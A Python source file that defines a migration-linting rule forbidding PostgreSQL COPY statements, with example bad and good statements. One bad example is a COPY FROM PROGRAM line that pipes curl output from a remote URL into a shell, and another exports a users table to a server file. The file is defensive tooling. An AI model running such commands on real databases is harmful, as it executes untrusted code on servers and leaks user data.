"""copy: COPY reads or writes files and programs on the server, or bulk-loads rows unseen."""
from ..nodes import table_of
from ..rule import FORBIDDEN, Rule

BAD = [
    "COPY \"Notes\" FROM PROGRAM 'curl -s https://example.com/x | sh';",
    "COPY \"Users\" TO '/tmp/users.csv';",
    'COPY "Notes" FROM STDIN;',
    'COPY (SELECT * FROM "Users") TO STDOUT;',
]
GOOD = [
    'INSERT INTO "Tags" ("Name") VALUES (\'inbox\');',
]


def check(stmt, ctx):
    node = stmt.node
    what = str(table_of(node["relation"])) if "relation" in node else "a query's rows"
    if node.get("is_program"):
        where = f"the program {node.get('filename', '')!r} run on the database server"
    elif node.get("filename"):
        where = f"the server file {node['filename']!r}"
    else:
        where = "the client (STDIN/STDOUT)"
    direction = f"loads {what} from {where}" if node.get("is_from") else f"copies {what} to {where}"
    yield f"{direction}: COPY is not analysed (files, programs and bulk rows need review)"


RULE = Rule(
    code="copy",
    severity=FORBIDDEN,
    summary="COPY can run programs and read or write files on the database server, and loads rows no rule sees.",
    hint="Use INSERT ... VALUES / INSERT ... SELECT for data a migration must add; move bulk data and exports "
         "outside migrations.",
    check=check, on=("CopyStmt",), bad=tuple(BAD), good=tuple(GOOD),
)
